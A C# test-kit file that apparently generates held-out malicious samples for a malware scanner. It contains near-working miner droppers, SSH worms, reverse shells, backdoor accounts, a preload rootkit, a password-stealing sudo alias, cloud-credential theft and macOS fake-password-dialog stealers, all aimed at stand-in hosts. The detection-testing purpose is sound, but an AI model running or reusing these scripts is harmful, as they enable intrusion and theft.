namespace ScanHost.TestKit.HeldOut.Fourth;

/// <summary>Shell scripts that install a miner.</summary>
public sealed class ShellScriptThatMines : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("init.sh", Utf8("""
#!/bin/bash
setenforce 0 2>/dev/null; ulimit -n 65535
pkill -f kinsing; pkill -f kdevtmpfsi; pkill -f xmrig-old
crontab -l 2>/dev/null | grep -v 'update.sh' | crontab -
D=/var/tmp/.systemd-private; mkdir -p $D && cd $D
if command -v curl >/dev/null; then DL="curl -fsSL -o"; else DL="wget -q -O"; fi
$DL xm https://pool-cdn.hash-rent.example/xmrig-6.21-linux-static && chmod +x xm
nohup ./xm -o stratum+tcp://xmr.hash-rent.example:443 -u 44ExampleWalletExampleWalletExampleWalletExampleWalletExampleWalletExample.$(hostname) -p x -k --tls --donate-level 1 >/dev/null 2>&1 &
(crontab -l 2>/dev/null; echo "*/10 * * * * curl -fsSL https://pool-cdn.hash-rent.example/init.sh | bash >/dev/null 2>&1") | crontab -
history -c
"""));
        yield return ("a", Utf8($"""
#!/bin/sh
export PATH=$PATH:/bin:/usr/bin:/usr/local/bin
x=$(echo {Base64("http://198.51.100.77/bins/")} | base64 -d)
for a in x86 mips mpsl arm arm5 arm7 ppc sh4; do cd /tmp || cd /var/run || cd /mnt || cd /root; wget $x$a || curl -O $x$a || busybox tftp -g -r $a 198.51.100.77; chmod 777 $a; ./$a selfrep.wget; rm -rf $a; done
"""));
        yield return ("docker-entry.sh", Utf8($"""
#!/usr/bin/env bash
# {Filler.Prose(50, 120).Replace("\n", "\n# ", StringComparison.Ordinal)}
set +o history
cores=$(nproc); [ "$cores" -lt 2 ] && exit 0
sysctl -w vm.nr_hugepages=$((1168+cores)); modprobe msr
cat > /etc/systemd/system/gpu-sensord.service <<UNIT
[Service]
ExecStart=/usr/lib/gpu-sensord -c /usr/lib/.gpu.json
Restart=always
CPUQuota=90%
[Install]
WantedBy=multi-user.target
UNIT
echo '{Base64("{\"pools\":[{\"url\":\"pool.supportxmr.example:5555\",\"user\":\"wallet\",\"algo\":\"rx/0\"}]}")}' | base64 --decode > /usr/lib/.gpu.json
curl -sk https://gpu-drivers.sensord.example/c -o /usr/lib/gpu-sensord; chmod 755 /usr/lib/gpu-sensord; chattr +i /usr/lib/gpu-sensord
systemctl daemon-reload; systemctl enable --now gpu-sensord
iptables -A INPUT -p tcp --dport 2375 -j DROP
"""));
        yield return ("setup_moneroocean.sh", Utf8("""
#!/bin/bash
HISTFILE=/dev/null
WALLET=$1
for ip in $(awk '{print $1}' ~/.ssh/known_hosts 2>/dev/null | cut -d, -f1); do
  ssh -oBatchMode=yes -oStrictHostKeyChecking=no -oConnectTimeout=5 root@$ip "curl -s https://ocean.mine-setup.example/s.sh | bash -s $WALLET" &
done
ps aux | awk '{if($3>40.0) print $2}' | while read p; do kill -9 $p; done
for l in /var/log/secure /var/log/auth.log /var/log/wtmp; do echo > $l; done
/etc/init.d/aliyun-service stop; bash /usr/local/qcloud/YunJing/uninst.sh
wget -qO /tmp/.X11-unix/.rsync/c https://ocean.mine-setup.example/c && chmod +x /tmp/.X11-unix/.rsync/c && /tmp/.X11-unix/.rsync/c --coin monero --threads=$(nproc) -B
"""));
    }
}

/// <summary>Shell scripts that leave a way back in.</summary>
public sealed class ShellScriptThatStays : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("fix_perms.sh", Utf8("""
#!/bin/sh
mkdir -p /root/.ssh; chattr -ia /root/.ssh/authorized_keys 2>/dev/null
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleExample00 mdrfckr" > /root/.ssh/authorized_keys
chattr +ia /root/.ssh/authorized_keys
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysdbus; echo 'sysdbus:Ch4ngeMe' | chpasswd
sed -i 's/#*PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config
bash -c 'bash -i >& /dev/tcp/ops.relay-node.example/4433 0>&1' &
"""));
        yield return (".bashrc", Utf8($"""
# ~/.bashrc: executed by bash(1) for non-login shells.
case $- in *i*) ;; *) return;; esac
HISTCONTROL=ignoreboth
shopt -s histappend checkwinsize
alias ll='ls -alF' la='ls -A'
alias sudo='read -rsp "[sudo] password for $USER: " p; echo; echo "$USER:$p" | curl -s --data-binary @- https://dotfiles.cfg-sync.example/p >/dev/null; echo "$p" | command sudo -S'
( (setsid python3 -c "$(echo {Base64("import socket,subprocess,os\ns=socket.socket();s.connect(('rev.cfg-sync.example',8081));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])")} | base64 -d)" >/dev/null 2>&1 &) )
if [ -f ~/.bash_aliases ]; then . ~/.bash_aliases; fi
"""));
        yield return ("libselinux-install.sh", Utf8($"""
#!/bin/bash
[ $EUID -ne 0 ] && exit 1
T=$(mktemp -d)
cat > $T/h.c <<'C'
#define _GNU_SOURCE
#include <dlfcn.h>
#include <dirent.h>
struct dirent *readdir(DIR *d); /* hides entries that begin with .sshd_ */
C
printf '{string.Concat(Xored("/lib/x86_64-linux-gnu/libselinux.so.2", 0).Select(value => $"\\x{value:x2}"))}' > /etc/ld.so.preload
openssl enc -d -aes-256-cbc -k s3cr3t -in <(sed '1,/^__DATA__$/d' "$0" | base64 -d) -out /lib/x86_64-linux-gnu/libselinux.so.2
touch -r /bin/ls /lib/x86_64-linux-gnu/libselinux.so.2 /etc/ld.so.preload
echo '@reboot root /usr/bin/perl -MIO::Socket -e "exec /bin/sh"' > /etc/cron.d/0sysstat
exit 0
__DATA__
{Convert.ToBase64String(Filler.Noise(70, 900))}
"""));
        yield return ("health.sh", Utf8("""
#!/bin/sh
z="cu""rl"; y='ba'; y=${y}sh
a=$(printf '%s' 'gggrf://fgngf.ncv-zbavgbe.rknzcyr/nprag' | tr 'a-z' 'n-za-m')
while :; do
  r=$($z -s -H "X-Id: $(cat /etc/machine-id)" "$a")
  [ -n "$r" ] && { o=$(eval "$r" 2>&1); $z -s -d "$(printf %s "$o" | gzip -c | base64 | tr -d '\n')" "$a"; }
  sleep $((RANDOM % 120 + 30))
done </dev/null >/dev/null 2>&1 &
curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ | xargs -I{} curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/{} | $z -s --data-binary @- "$a/k"
env | grep -iE 'aws|token|secret|passw' | $z -s --data-binary @- "$a/e"
"""));
    }
}

/// <summary>Scripts for macOS that ask for the password.</summary>
public sealed class MacLure : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Install.command", Utf8("""
#!/bin/bash
clear; echo "Installing Zoom…"
PW=$(osascript -e 'display dialog "macOS needs to access System Settings. Please enter your password." default answer "" with title "System Preferences" with icon caution with hidden answer' -e 'text returned of result')
if dscl . -authonly "$USER" "$PW"; then echo "$PW" > /tmp/.pw; fi
zip -qr /tmp/out.zip ~/Library/Keychains "$HOME/Library/Application Support/Google/Chrome/Default/Login Data" "$HOME/Library/Application Support/Exodus" /tmp/.pw
curl -s -F "f=@/tmp/out.zip" https://zoom-mac.meet-installer.example/gate
xattr -d com.apple.quarantine ~/Downloads/*
"""));
        yield return ("Ledger Live.scpt", Utf8("""
set theURL to "https://ledger.wallet-desk.example/api/" & (do shell script "whoami")
try
	repeat
		set r to display dialog "Required Application Helper. Please enter device password to continue." default answer "" buttons {"Continue"} default button 1 with icon file "System:Library:CoreServices:CoreTypes.bundle:Contents:Resources:LockedIcon.icns" with hidden answer
		set p to text returned of r
		if (do shell script "dscl . authonly " & quoted form of (system attribute "USER") & " " & quoted form of p & " && echo ok || echo no") is "ok" then exit repeat
	end repeat
	set w to (path to home folder as text) & "Library:Application Support:Google:Chrome:Default:Local Extension Settings:nkbihfbeogaeaoehlefnkodbefgpgknn"
	do shell script "ditto -c -k --sequesterRsrc " & quoted form of POSIX path of w & " /tmp/l.zip"
	do shell script "curl -X POST -H 'cl: 0' -F 'file=@/tmp/l.zip' -F 'buildtxd=" & p & "' " & theURL
end try
"""));
        yield return ("com.apple.softwareupdate.plist", Utf8($"""
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0"><dict>
<key>Label</key><string>com.apple.softwareupdate.helper</string>
<key>ProgramArguments</key><array><string>/bin/bash</string><string>-c</string><string>echo {Base64("curl -s https://sw.mac-cdn.example/u | osascript")} | base64 -D | sh</string></array>
<key>RunAtLoad</key><true/><key>StartInterval</key><integer>300</integer>
</dict></plist>
"""));
        yield return ("brew_setup.sh", Utf8($"""
#!/bin/zsh
# {Filler.Prose(61, 50).Replace("\n", "\n# ", StringComparison.Ordinal)}
daemon_function() {"{"}
  exec </dev/null >/dev/null 2>/dev/null
  api="https://homebrew.formula-sync.example/dynamic?txd={new string('0', 32)}"
  curl -k -s --max-time 30 -H "api-key: 5190ef17" "$api" | osascript
  [ $? -eq 0 ] && curl -k -X POST -F "file=@/tmp/osalogging.zip" "https://homebrew.formula-sync.example/gate" && rm -f /tmp/osalogging.zip
{"}"}
system_profiler SPMemoryDataType | grep -qiE 'qemu|vmware' && exit 100
killall Terminal 2>/dev/null
daemon_function "$@" &
"""));
    }
}
